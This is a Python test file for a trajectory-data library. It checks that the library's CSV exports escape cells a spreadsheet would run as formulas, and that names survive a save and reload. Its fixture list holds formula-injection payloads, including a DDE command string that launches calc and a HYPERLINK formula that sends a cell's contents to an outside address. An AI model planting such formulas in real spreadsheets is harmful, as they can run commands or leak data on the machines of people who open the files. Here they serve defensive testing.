"""Cells that a spreadsheet would run are written as texts, and are read back as they were."""

import csv

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bsp_gp.cli import main
from bsp_gp.data.cells import plain_cell, safe_cell, safe_table
from bsp_gp.data.scene import Dataset, Entity, Scene
from bsp_gp.data.tables import load_dataset, save_dataset
from bsp_gp.report.folder import RESIDUALS, _residuals
from tests.planted import SI

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
NAMES = (
    "=1+1", '=HYPERLINK("http://a.org/?"&A1,"x")', "+cmd|' /C calc'!A0", "-drop", "@SUM(A1)",
    "'=1+1", "''=1+1", "'tis", "-1", "+2.5e-3", "'-1", "ball", "-", "--1",
)  # fmt: skip
TIMES = 0.1 * np.arange(6)


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def cells(path):
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def hostile(n_scenes=2, masses=False):
    """Bodies and scenes of all these names, with negative positions among the numbers."""
    bodies = [Entity(name, properties={"mass": 1.5}) for name in NAMES]
    scenes = []
    for s in range(n_scenes):
        if masses:
            bodies = [Entity(name, properties={"mass": 1.0 + s}) for name in NAMES]
        p = np.stack(
            [np.stack([TIMES - 0.5 * k, -0.25 * TIMES + s], axis=1) for k in range(len(NAMES))],
            axis=1,
        )
        scenes.append(Scene(NAMES[s], TIMES, p, bodies))
    return Dataset("hostile", tuple(scenes), units=SI)


@pytest.mark.parametrize("masses", [False, True])
def test_names_come_back_and_no_cell_is_a_formula(tmp_path, masses):
    data = hostile(len(NAMES), masses)
    folder = save_dataset(data, tmp_path / "out")
    for name in ("trajectories.csv", "entities.csv"):
        told = [cell for cell in cells(folder / name) if cell.startswith(FORMULAS)]
        assert all(map(is_number, told))
    assert "-0.5" in cells(folder / "trajectories.csv")
    again = load_dataset(folder)
    assert [s.name for s in again.scenes] == list(NAMES)
    for one, other in zip(data.scenes, again.scenes, strict=True):
        assert one.names == other.names
        assert [e.mass for e in one.entities] == [e.mass for e in other.entities]
        assert np.array_equal(one.positions, other.positions)
    second = save_dataset(again, tmp_path / "second")
    for name in ("trajectories.csv", "entities.csv"):
        assert (second / name).read_bytes() == (folder / name).read_bytes()


def test_residuals_and_tables_of_laws():
    one = np.array([-0.5])
    values = (["=1+1"], ["@x"], ["train"], *(one for _ in range(7)))
    table = pd.DataFrame(dict(zip(RESIDUALS, values, strict=True)))
    row = _residuals(table).splitlines()[1].split(",")
    assert row == ["'=1+1", "'@x", "train", *["-0.5"] * 7]
    frame = pd.DataFrame({"law": ["-c * v_i", "c * v_i"], "=loss": [-1.0, 2.0]}, index=["+a", "b"])
    assert safe_table(frame).to_csv().splitlines() == [
        ",law,'=loss", "'+a,'-c * v_i,-1.0", "b,c * v_i,2.0",
    ]  # fmt: skip
    assert frame.columns.tolist() == ["law", "=loss"]


def test_laws_in_the_results_of_compare(tmp_path):
    t = 0.02 * np.arange(40)
    x = np.stack([3 * np.exp(-t), -2 * np.exp(-t)], axis=1)
    x = x + 1e-4 * np.random.default_rng(0).standard_normal(x.shape)
    pd.DataFrame({"t": t, "x": x[:, 0], "y": x[:, 1]}).to_csv(tmp_path / "a.csv", index=False)
    out = tmp_path / "out"
    words = ["compare", str(tmp_path / "a.csv"), "--units", "length=m", "time=s", "--kind", "field"]
    words += ["--seeds", "1", "--laws", "50", "--quiet", "--searches", "random"]
    assert main([*words, "--out", str(out)]) == 0
    told = [cell for cell in cells(out / "results.csv") if cell.startswith(FORMULAS)]
    assert all(map(is_number, told))


@given(st.text(st.sampled_from("'=+-@1.eE a\t"), max_size=6))
@example("'=1")
@example("-1")
def test_every_text_survives(text):
    cell = safe_cell(text)
    assert plain_cell(cell) == text
    assert not cell.startswith(FORMULAS) or is_number(cell)
